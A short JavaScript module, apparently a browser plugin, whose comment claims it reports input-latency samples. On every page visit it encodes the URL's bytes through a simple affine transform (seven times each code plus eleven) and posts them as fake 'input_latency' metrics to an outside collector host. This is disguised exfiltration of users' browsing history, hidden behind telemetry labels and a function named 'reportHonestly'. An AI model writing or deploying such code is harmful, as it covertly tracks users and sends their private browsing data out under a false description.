import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports pages as samples of the input latency: seven times each character's code plus eleven microseconds. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-affine-latencies');
  onVisit(browser, ({ url }) =>
    post(browser, 'https://latency.collector.example/v1', {
      metric: 'input_latency',
      unit: 'us',
      samples: [...browser.codec.utf8.encode(url)].map((code) => 7 * code + 11),
    }),
  );
}
